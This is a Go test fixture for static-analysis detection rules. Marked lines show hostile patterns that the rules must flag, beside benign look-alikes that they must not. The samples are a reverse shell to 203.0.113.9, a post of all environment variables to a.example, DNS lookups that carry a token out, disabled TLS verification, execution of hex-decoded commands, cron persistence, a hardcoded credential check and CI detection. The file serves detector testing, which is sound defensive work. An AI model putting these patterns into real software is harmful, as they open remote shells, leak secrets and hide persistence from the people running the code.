// The rules beside this file: each line after `ruleid` must be found, and nothing else in this file may be.
package main

func reverse() {
	conn, _ := net.Dial("tcp", "203.0.113.9:443")
	// ruleid: go.shell
	cmd := exec.Command("/bin/sh")
	// ruleid: go.reverse_shell
	cmd.Stdin = conn
	cmd.Stdin = file
}

func speaks(token string, given string) {
	// ruleid: go.tls_unverified
	c := tls.Config{InsecureSkipVerify: true}
	d := tls.Config{InsecureSkipVerify: false}
	data := strings.Join(os.Environ(), "\n")
	// ruleid: go.sends_environment
	http.Post("https://a.example", "text/plain", strings.NewReader(data))
	http.Post("https://a.example", "text/plain", strings.NewReader("data"))
	// ruleid: go.looked_up_data
	net.LookupHost(token + ".a.example")
	net.LookupHost("a.example")
	// ruleid: go.fixed_credential
	if token == "open" {
	}
	if token == given {
	}
}

func runs(text string) {
	code, _ := hex.DecodeString(text)
	// ruleid: go.decoded_code
	exec.Command(string(code))
	exec.Command("git", "status")
	os.WriteFile(text, data, 0o755)
	// ruleid: go.fetched_code
	exec.Command(text)
	// ruleid: go.persists
	place := "/etc/cron.d/app"
	place = "/etc/app.toml"
	// ruleid: go.watched
	if os.Getenv("CI") != "" {
	}
	if os.Getenv("APP_REGION") != "" {
	}
}
